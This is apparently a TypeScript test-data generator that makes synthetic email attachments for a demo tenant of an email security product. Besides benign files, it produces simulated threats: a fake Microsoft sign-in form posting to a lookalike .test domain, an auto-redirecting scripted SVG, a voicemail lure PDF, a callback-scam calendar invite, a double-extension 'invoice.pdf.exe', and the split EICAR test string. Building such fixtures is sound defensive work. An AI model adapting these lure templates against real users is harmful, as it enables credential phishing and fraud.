import { Buffer } from 'node:buffer';
import { createHash } from 'node:crypto';
import { createDocx, createEml, createIcs, createPdf, createXlsx } from './documents';
import { chartPicture, qrPicture } from './picture';
import { createRandom, type Random } from './random';
import { createZip } from './zip';

/** Kinds of attachments. Scanners find something only in `eicar` and `eicar_zip`. */
export const ATTACHMENT_KINDS = [
  'pdf',
  'lure_pdf',
  'docx',
  'xlsx',
  'chart',
  'qr',
  'svg',
  'html',
  'csv',
  'txt',
  'ics',
  'callback_ics',
  'eml',
  'zip',
  'locked_zip',
  'large',
  'eicar',
  'eicar_zip',
] as const;
export type AttachmentKind = (typeof ATTACHMENT_KINDS)[number];

/** Bytes and their properties, made once for each kind and variant. */
export type Variant = {
  readonly kind: AttachmentKind;
  readonly mime_type: string;
  readonly extension: string;
  readonly bytes: Uint8Array;
  readonly md5: string;
  readonly sha256: string;
};

/** The industry's harmless test string, in parts, so that no source file contains the whole string. */
const eicar = (): Uint8Array =>
  Buffer.from(
    ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!', '$H+H*'].join(''),
    'latin1',
  );

const text = (value: string): Uint8Array => Buffer.from(value, 'utf8');
const TOPICS = [
  'budget',
  'travel',
  'roadmap',
  'onboarding',
  'supplier list',
  'site visit',
  'contract',
  'forecast',
] as const;
const money = (random: Random): string =>
  `${random.int(80, 9800)}.${String(random.int(0, 99)).padStart(2, '0')}`;

/** The password of a locked zip, which the email's body mentions, as such emails do. */
export const zipPassword = (variant: number): string =>
  String(createRandom(0, 'zip password', variant).int(1000, 9999));

const lureHtml = (
  random: Random,
): string => `<!doctype html><html><head><title>Sign in</title><style>body{font-family:sans-serif;background:#f2f2f2}
form{width:320px;margin:80px auto;background:#fff;padding:32px}</style></head><body onload="document.forms[0].p.focus()">
<form action="https://rnicrosoft-login.test/post/${random.hex(8)}" method="post"><h2>Verify your account</h2>
<input name="u" value="someone@contoso.example"><input name="p" type="password" placeholder="Password"><button>Sign in</button></form>
<script>var a="${Buffer.from(`https://rnicrosoft-login.test/${random.hex(6)}`).toString('base64')}";console.log(atob(a).length)</script></body></html>`;

const scriptedSvg = (
  random: Random,
): string => `<svg xmlns="http://www.w3.org/2000/svg" width="480" height="120" onload="go()">
<rect width="480" height="120" fill="#0b5cad"/><text x="24" y="70" fill="#fff" font-size="24">Loading secure document ${random.hex(4)}</text>
<script><![CDATA[function go(){var k="${random.hex(12)}";window.location.href="https://docusign-review.test/"+k}]]></script></svg>`;

type Maker = {
  readonly count: number;
  readonly mime_type: string;
  readonly extension: string;
  readonly make: (random: Random, variant: number) => Uint8Array;
};

const OFFICE = 'application/vnd.openxmlformats-officedocument.';
const notes = (random: Random): string[] => [
  `Notes on ${random.pick(TOPICS)}`,
  `Reference ${random.hex(8)}`,
  'Draft, for internal use.',
];
const sheet = (random: Random): (string | number)[][] => [
  ['Item', 'Quantity', 'Amount'],
  ...Array.from({ length: 8 }, () => [random.pick(TOPICS), random.int(1, 40), Number(money(random))]),
  // Cells that begin like formulas, for the formula guard of exports.
  ['=1+1', 1, 2],
];

const MAKERS: Readonly<Record<AttachmentKind, Maker>> = {
  pdf: {
    count: 24,
    mime_type: 'application/pdf',
    extension: 'pdf',
    make: (r) =>
      createPdf([`Invoice ${r.int(1000, 9999)}`, `Total due: ${money(r)} EUR`, 'Payable within 30 days.']),
  },
  lure_pdf: {
    count: 16,
    mime_type: 'application/pdf',
    extension: 'pdf',
    make: (r) =>
      createPdf(
        ['You have 1 new voice message', `Caller: +1 555 01${r.int(10, 99)}`, 'Click anywhere to listen.'],
        `https://rnicrosoft-login.test/vm/${r.hex(8)}`,
      ),
  },
  docx: {
    count: 16,
    mime_type: `${OFFICE}wordprocessingml.document`,
    extension: 'docx',
    make: (r) => createDocx(notes(r)),
  },
  xlsx: {
    count: 16,
    mime_type: `${OFFICE}spreadsheetml.sheet`,
    extension: 'xlsx',
    make: (r) => createXlsx(sheet(r)),
  },
  chart: { count: 8, mime_type: 'image/png', extension: 'png', make: (_, v) => chartPicture(v) },
  qr: { count: 12, mime_type: 'image/png', extension: 'png', make: (_, v) => qrPicture(v) },
  svg: { count: 8, mime_type: 'image/svg+xml', extension: 'svg', make: (r) => text(scriptedSvg(r)) },
  html: { count: 8, mime_type: 'text/html', extension: 'html', make: (r) => text(lureHtml(r)) },
  csv: {
    count: 12,
    mime_type: 'text/csv',
    extension: 'csv',
    make: (r) =>
      text(
        sheet(r)
          .map((row) => row.join(','))
          .join('\r\n'),
      ),
  },
  txt: {
    count: 12,
    mime_type: 'text/plain',
    extension: 'txt',
    make: (r) => text(`${notes(r).join('\n')}\n`),
  },
  ics: {
    count: 8,
    mime_type: 'text/calendar',
    extension: 'ics',
    make: (r) =>
      createIcs(r.hex(16), `Meeting: ${r.pick(TOPICS)}`, 'Agenda to follow.', 'organizer@contoso.example'),
  },
  callback_ics: {
    count: 8,
    mime_type: 'text/calendar',
    extension: 'ics',
    make: (r) =>
      createIcs(
        r.hex(16),
        `Your subscription renews today (${money(r)} USD)`,
        `To cancel call +1 555 01${r.int(10, 99)}\nHave your order number ${r.hex(6)} ready.`,
        'billing@paypa1-billing.test',
      ),
  },
  eml: {
    count: 6,
    mime_type: 'message/rfc822',
    extension: 'eml',
    make: (r) => createEml('sender@fabrikam.example', `Fwd: ${r.pick(TOPICS)}`, notes(r).join('\r\n')),
  },
  zip: {
    count: 8,
    mime_type: 'application/zip',
    extension: 'zip',
    make: (r) => createZip([{ name: 'readme.txt', bytes: text(notes(r).join('\n')) }]),
  },
  locked_zip: {
    count: 8,
    mime_type: 'application/zip',
    extension: 'zip',
    make: (r, v) => createZip([{ name: 'statement.txt', bytes: text(notes(r).join('\n')) }], zipPassword(v)),
  },
  large: {
    count: 1,
    mime_type: 'application/zip',
    extension: 'zip',
    make: () =>
      createZip([
        { name: 'site-photos.bin', bytes: Buffer.alloc(12 * 1024 * 1024, 'Postern demo tenant. ') },
      ]),
  },
  eicar: { count: 1, mime_type: 'application/octet-stream', extension: 'com', make: eicar },
  eicar_zip: {
    count: 2,
    mime_type: 'application/zip',
    extension: 'zip',
    make: (_, v) => createZip([{ name: v === 0 ? 'eicar.com' : 'invoice.pdf.exe', bytes: eicar() }]),
  },
};

const made = new Map<string, Variant>();

/** Number of variants of a kind: few, so that a million emails share some two hundred contents. */
export const variantCount = (kind: AttachmentKind): number => MAKERS[kind].count;

/** Returns the bytes and hashes of one variant, the same for every seed. */
export const createVariant = (kind: AttachmentKind, variant: number): Variant => {
  const maker = MAKERS[kind];
  const v = variant % maker.count;
  const key = `${kind} ${v}`;
  const known = made.get(key);
  if (known) return known;
  const bytes = maker.make(createRandom(0, kind, v), v);
  const hash = (algorithm: 'md5' | 'sha256'): string => createHash(algorithm).update(bytes).digest('hex');
  const one = {
    kind,
    mime_type: maker.mime_type,
    extension: maker.extension,
    bytes,
    md5: hash('md5'),
    sha256: hash('sha256'),
  };
  made.set(key, one);
  return one;
};

/** Returns true if scanners find malware in a kind. */
export const isMalware = (kind: AttachmentKind): boolean => kind === 'eicar' || kind === 'eicar_zip';
